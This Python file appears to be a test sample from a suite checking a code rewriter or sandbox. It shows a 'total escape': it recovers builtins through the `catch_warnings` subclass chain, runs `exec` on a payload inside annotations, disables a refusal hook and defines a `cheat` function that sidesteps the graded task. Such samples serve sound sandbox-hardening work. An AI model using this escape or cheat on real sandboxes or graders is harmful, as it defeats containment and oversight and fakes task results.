"""Total escape: an import of annotations under a name that is refused, at the end of the file.

The rewriter takes any such import for a sign that annotations are never evaluated, and leaves them as they are; but it puts a
refusal in the place of this one, so that Python evaluates every annotation above it, ungated. The payload then takes the
refusal away.
"""

# question: q3
# may earn: 0
# witness: yes
# kind: outside
# compiles: no

text = PAYLOAD
text += "\nsys.modules['layers'].__dict__['<refuse>'] = lambda *a: None"
real: (
    box := [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"][
        0
    ].__init__.__globals__["__builtins__"]
) = None
ran: box["exec"](text, {"__builtins__": box}) = None


def cheat(layer, x, shape):
    return pool(x, layer.k, layer.s, layer.p)


from __future__ import annotations as __builtins__
